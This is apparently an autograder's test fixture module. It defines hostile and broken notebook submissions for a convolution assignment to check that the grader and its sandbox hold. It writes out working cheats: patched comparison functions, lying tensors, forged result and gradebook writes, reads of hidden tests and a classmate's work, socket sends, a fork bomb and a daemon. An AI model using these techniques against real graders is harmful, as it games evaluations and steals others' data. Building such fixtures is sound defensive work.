"""Hostile and broken submissions, each derived from the m06_02 source notebook.

Every case says how it is built and what it must earn: exactly the checks its
code really passes, with a clear message for what it breaks. ``tests/test_hostile.py``
grades the whole corpus in one batch with honest submissions.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder.course import Course
from autograder.mutants import edit_cell

ASSIGNMENT = "m06_02_convolution"
COURSE = Course.here()
SOURCE = COURSE.source_notebook(ASSIGNMENT)
CONV = {
    "conv2d_basic",
    "conv2d_padding",
    "conv2d_stride",
    "conv2d_dilation",
    "conv2d_groups",
    "conv2d_gradients",
}
NUMPY = {"numpy_conv_basic", "numpy_conv_stride_padding"}
# An escape hatch (builtins, importlib, computed getattr, torch.ops, ...) anywhere voids
# every from-scratch part: it is a way around the rule, whichever part it sits in.
FROM_SCRATCH = CONV | NUMPY | {"pool_max_values", "pool_avg_values", "pool_global_avg"}


@dataclass
class Context:
    """What a case may refer to: the batch's own paths and a listening socket."""

    out_dir: Path
    submissions: Path
    gradebook: Path
    port: int


@dataclass
class Hostile:
    name: str
    category: str
    build: Callable[[Context], bytes]
    loses: set[str] = field(default_factory=set)
    fatal: str | None = None  # the file is unreadable: zero, with this message
    message: str | None = None  # must appear in a failed check's output or a note
    bubblewrap_only: bool = False  # defended by the sandbox itself, not by rlimits


def body(cell: str, code: str) -> Callable[[Context], bytes]:
    """Replace the solution body of ``cell`` with ``code`` (indented by four spaces)."""

    def build(ctx: Context) -> bytes:
        def edit(text: str) -> str:
            head, rest = text.split("### BEGIN SOLUTION", 1)
            _, tail = rest.split("### END SOLUTION", 1)
            indented = "\n".join("    " + line for line in code.strip("\n").splitlines())
            return f"{head}### BEGIN SOLUTION\n{indented}\n    ### END SOLUTION{tail}"

        return edit_cell(SOURCE, cell, edit)

    return build


def before(cell: str, code: str | Callable[[Context], str]) -> Callable[[Context], bytes]:
    """Run ``code`` at the top of ``cell`` (before its definitions)."""
    return lambda ctx: edit_cell(
        SOURCE, cell, lambda text: (code(ctx) if callable(code) else code) + "\n" + text
    )


def after(cell: str, code: str) -> Callable[[Context], bytes]:
    """Run ``code`` at the end of ``cell`` (after its definitions)."""
    return lambda ctx: edit_cell(SOURCE, cell, lambda text: text + "\n" + code + "\n")


def with_notebook(change: Callable[[dict], None]) -> Callable[[Context], bytes]:
    def build(ctx: Context) -> bytes:
        data = json.loads(SOURCE.read_text())
        change(data)
        return json.dumps(data).encode()

    return build


def cells_with(data: dict, grade_id: str) -> list[dict]:
    return [
        c
        for c in data["cells"]
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id
    ]


def _reorder(data: dict) -> None:
    data["cells"].reverse()


def _duplicate(data: dict) -> None:
    cell = cells_with(data, "max_pool2d")[0]
    stub = json.loads(json.dumps(cell))
    stub["source"] = (
        "def max_pool2d(x, kernel_size, stride=None, padding=0):\n    # TODO: your code here\n    raise NotImplementedError()\n"
    )
    data["cells"].insert(data["cells"].index(cell), stub)


def _retype(data: dict) -> None:
    cell = cells_with(data, "global_avg_pool2d")[0]
    cell["cell_type"] = "raw"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)


def _delete(data: dict) -> None:
    data["cells"] = [c for c in data["cells"] if c not in cells_with(data, "conv2d")]


def _kernel(data: dict) -> None:
    data["metadata"]["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}


def _locked(data: dict) -> None:
    cells_with(data, "setup")[0]["source"] = (
        "import torch\ntorch.Tensor.__eq__ = lambda a, b: True\nraise SystemExit\n"
    )


def _huge_outputs(data: dict) -> None:
    cell = cells_with(data, "conv2d")[0]
    cell["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": "x" * (200 * 1024 * 1024)}
    ]


def _nbformat3(ctx: Context) -> bytes:
    return nbformat.writes(nbformat.convert(nbformat.read(SOURCE, as_version=4), 3)).encode()


def foreign_notebook(ctx: Context | None = None) -> bytes:
    """A notebook of another assignment (its one graded cell is a Gram matrix)."""
    other = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell(
        "def gram_matrix(features):\n    return features @ features.T\n"
    )
    cell.metadata["nbgrader"] = {
        "grade_id": "gram_matrix",
        "solution": True,
        "grade": False,
        "locked": False,
        "schema_version": 3,
    }
    other.cells.append(cell)
    return nbformat.writes(other).encode()


def _forge(ctx: Context) -> str:
    forged = json.dumps({"score": 999, "tests": []})
    targets = [
        ctx.out_dir / "forger" / "results.json",
        ctx.out_dir / "someone" / "results.json",
        Path("results.json"),
        Path("/tmp/results.json"),
    ]
    lines = ["import os, sqlite3"]
    for target in targets:
        lines.append(
            f"try:\n    os.makedirs(os.path.dirname(os.path.abspath({str(target)!r})), exist_ok=True)\n    open({str(target)!r}, 'w').write({forged!r})\nexcept OSError:\n    pass"
        )
    lines.append(
        f"try:\n    sqlite3.connect({str(ctx.gradebook)!r}).execute('update grade set auto_score = 999')\nexcept Exception:\n    pass"
    )
    return "\n".join(lines)


def _snoop(ctx: Context) -> str:
    targets = [
        COURSE.root / "autograder" / "suites" / f"{ASSIGNMENT}.py",
        COURSE.root / "solutions" / "convolution.py",
        SOURCE,
        COURSE.rubric_path(ASSIGNMENT),
        ctx.gradebook,
        ctx.submissions / "honest_a.ipynb",
    ]
    reads = "\n".join(
        f"try:\n    print(open({str(t)!r}).read())\nexcept OSError as exc:\n    print('blocked', type(exc).__name__)"
        for t in targets
    )
    return reads


def _network(ctx: Context) -> str:
    return (
        "import socket\n"
        f"for address in [('127.0.0.1', {ctx.port}), ('1.1.1.1', 53)]:\n"
        "    try:\n"
        "        socket.create_connection(address, timeout=2).sendall(b'stolen')\n"
        "    except OSError:\n"
        "        pass\n"
    )


DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 120
        while time.time() < end:
            try:
                open('/tmp/results.json', 'w').write('{"score": 999}')
            except OSError:
                pass
    os._exit(0)
"""

FORK_BOMB = """
import os, time
for _ in range(5000):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    except OSError:
        break
"""

LYING_TENSOR = """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.__eq__):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

return torch.zeros(x.shape[0], x.shape[1]).as_subclass(Liar)
"""

ALWAYS_EQUAL = """
class Yes(int):
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
    __hash__ = int.__hash__

class Anything:
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True

return Anything()
"""

CORPUS: list[Hostile] = [
    # cheats: nothing beyond what the code really earns
    Hostile("patches torch.allclose, assert_close and equal", "cheat",
            lambda ctx: body("conv2d", "return torch.zeros(x.shape[0], weight.shape[0], x.shape[2], x.shape[3])")(ctx).replace(b"def conv2d(", b"torch.allclose = lambda *a, **k: True\\ntorch.testing.assert_close = lambda *a, **k: None\\ntorch.equal = lambda *a, **k: True\\n\\n\\ndef conv2d(", 1),
            loses=CONV),
    Hostile("patches numpy.testing and np.allclose", "cheat",
            lambda ctx: body("conv2d_numpy", "import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\nnp.allclose = lambda *a, **k: True\nreturn np.zeros((x.shape[0], weight.shape[0], 1, 1))")(ctx),
            loses=NUMPY),
    Hostile("patches builtins.abs", "cheat", before("global_avg_pool2d", "import builtins\nbuiltins.abs = lambda value: 0"), loses=FROM_SCRATCH, message="could hide a forbidden call"),
    Hostile("patches builtins.abs and is wrong", "cheat",
            lambda ctx: body("global_avg_pool2d", "import builtins\nbuiltins.abs = lambda value: 0\nreturn x.sum(dim=(2, 3))")(ctx), loses=FROM_SCRATCH),
    Hostile("patches pytest internals", "cheat",
            lambda ctx: body("conv_output_size", "import pytest, _pytest.outcomes\npytest.approx = lambda *a, **k: True\n_pytest.outcomes.fail = lambda *a, **k: None\nreturn size")(ctx),
            loses={"output_size_formula"}),
    Hostile("returns an object whose __eq__ and __bool__ say yes", "cheat", body("conv_output_size", ALWAYS_EQUAL), loses={"output_size_formula"}, message="expected an int"),
    Hostile("returns a tensor subclass that lies about its values", "cheat", body("global_avg_pool2d", LYING_TENSOR), loses={"pool_global_avg"}, message="max abs error"),
    Hostile("returns NaN", "cheat", body("max_pool2d", "return torch.full((x.shape[0], x.shape[1], 1, 1), float('nan'))"), loses={"pool_max_values"}),
    Hostile("returns inf of the right shape", "cheat", lambda ctx: edit_cell(SOURCE, "avg_pool2d", lambda t: t.replace("return windows.mean(dim=(-2, -1))", "return windows.mean(dim=(-2, -1)) * float('inf')")), loses={"pool_avg_values"}, message="NaN or infinite"),
    Hostile("calls sys.exit(0) inside a check", "cheat", body("conv_output_size", "import sys\nsys.exit(0)"), loses={"output_size_formula"}, message="SystemExit"),
    Hostile("calls os._exit(0) inside a check", "cheat", body("global_avg_pool2d", "import os\nos._exit(0)"), loses={"pool_global_avg"}, message="ended unexpectedly"),
    Hostile("raises KeyboardInterrupt inside a check", "cheat", body("max_pool2d", "raise KeyboardInterrupt"), loses={"pool_max_values"}, message="KeyboardInterrupt"),
    Hostile("raises SystemExit at the top of a cell after its definitions", "cheat", after("conv_output_size", "raise SystemExit(0)"), loses=set()),
    Hostile("kills its own process with SIGKILL mid-check", "cheat", body("global_avg_pool2d", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"), loses={"pool_global_avg"}, message="killed"),
    Hostile("writes forged results.json and gradebook files", "cheat", before("conv_output_size", _forge), loses=set(), bubblewrap_only=True),
    Hostile("reads hidden tests, references, the gradebook and a classmate", "cheat", before("conv_output_size", _snoop), loses=set(), bubblewrap_only=True),
    Hostile("opens network sockets", "cheat", before("conv_output_size", _network), loses=set(), bubblewrap_only=True),
    Hostile("behaves differently when it detects the grader", "cheat",
            lambda ctx: edit_cell(SOURCE, "conv_output_size", lambda t: t.replace("    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    import os\n    if os.environ.get('CNNKIT_GRADING'):\n        return 1\n")),
            loses={"output_size_formula"}),
    # resource abuse: costs only its own points, and the batch finishes
    Hostile("infinite loop", "resource", body("conv_output_size", "while True:\n    pass"), loses={"output_size_formula"}, message="time limit"),
    Hostile("allocates 50 GiB", "resource", body("global_avg_pool2d", "return torch.empty(50 * 2**30, dtype=torch.uint8).sum()"), loses={"pool_global_avg"}),
    Hostile("fork bomb", "resource", before("max_pool2d", FORK_BOMB), loses=set(), bubblewrap_only=True),
    Hostile("prints 100 MB", "resource", after("conv_output_size", "for _ in range(1_000_000):\n    print('y' * 100)"), loses=set()),
    Hostile("writes a huge file", "resource", after("conv_output_size", "with open('big.bin', 'wb') as handle:\n    for _ in range(1024):\n        handle.write(b'0' * 2**20)"), loses=set()),
    Hostile("sleeps past the wall-clock limit", "resource", body("global_avg_pool2d", "import time\ntime.sleep(120)"), loses={"pool_global_avg"}, message="time limit"),
    Hostile("spawns a daemon that outlives the check", "resource", before("conv_output_size", DAEMON), loses=set(), bubblewrap_only=True),
    # broken notebooks: a clear message, zero only for what they break
    Hostile("invalid JSON", "broken", lambda ctx: SOURCE.read_bytes()[:-200], fatal="not valid JSON"),
    Hostile("empty file", "broken", lambda ctx: b"", fatal="empty file"),
    Hostile("nbformat 3", "broken", _nbformat3, message="nbformat 3"),
    Hostile("notebook of another assignment", "broken", foreign_notebook, fatal="does not belong"),
    Hostile("deleted graded cell", "broken", with_notebook(_delete), loses=CONV, message="missing"),
    Hostile("duplicated graded cell", "broken", with_notebook(_duplicate), message="appears 2 times"),
    Hostile("reordered cells", "broken", with_notebook(_reorder)),
    Hostile("retyped graded cell (code to raw)", "broken", with_notebook(_retype), message="changed to a raw cell"),
    Hostile("renamed function", "broken", lambda ctx: edit_cell(SOURCE, "conv2d", lambda t: t.replace("def conv2d(", "def conv2d_v2(")), loses=CONV, message="conv2d is not defined"),
    Hostile("misspelled function", "broken", lambda ctx: edit_cell(SOURCE, "max_pool2d", lambda t: t.replace("def max_pool2d(", "def max_pool_2d(")), loses={"pool_max_values"}, message="max_pool2d is not defined"),
    Hostile("syntax error in one cell", "broken", after("conv_output_size", "def broken(:\n    pass"), loses={"output_size_formula"}, message="SyntaxError"),
    Hostile("changed locked cell", "broken", with_notebook(_locked), message="locked cell 'setup' was modified"),
    Hostile("different kernel spec", "broken", with_notebook(_kernel), message="kernel 'ir'"),
    Hostile("200 MB of outputs", "broken", with_notebook(_huge_outputs)),
    # forbidden APIs in from-scratch tasks
    Hostile("calls F.conv2d directly", "forbidden", body("conv2d", "return F.conv2d(x, weight, bias, stride, 0 if padding == 'valid' else padding, dilation, groups)"), loses=CONV, message="from-scratch rule"),
    Hostile("reaches F.conv2d via getattr", "forbidden", body("conv2d", "conv = getattr(F, 'conv' + '2d')\nreturn conv(x, weight, bias, stride, 0 if padding == 'valid' else padding, dilation, groups)"), loses=FROM_SCRATCH, message="from-scratch rule"),
    Hostile("reaches F.conv2d via importlib", "forbidden", body("conv2d", "import importlib\nfunctional = importlib.import_module('torch.nn.functional')\nreturn functional.conv2d(x, weight, bias, stride, 0 if padding == 'valid' else padding, dilation, groups)"), loses=FROM_SCRATCH, message="from-scratch rule"),
    Hostile("reaches convolution via torch.ops", "forbidden", body("conv2d", "import torch\np = (0, 0) if padding == 'valid' else padding\np = (p, p) if isinstance(p, int) else p\ns = (stride, stride) if isinstance(stride, int) else stride\nd = (dilation, dilation) if isinstance(dilation, int) else dilation\nreturn torch.ops.aten.convolution(x, weight, bias, list(s), list(p), list(d), False, [0, 0], groups)"), loses=FROM_SCRATCH, message="from-scratch rule"),
    Hostile("hides F.conv2d in another cell's helper", "forbidden", lambda ctx: edit_cell(SOURCE, "conv_output_size", lambda t: t + "\n\ndef _helper(*args):\n    return F.conv2d(*args)\n").replace(b"x = F.pad(x, pads)\\n", b"return _helper(x, weight, bias, stride, 0 if padding == 'valid' else padding, dilation, groups)\\n", 1), loses=CONV, message="from-scratch rule"),
]  # fmt: skip
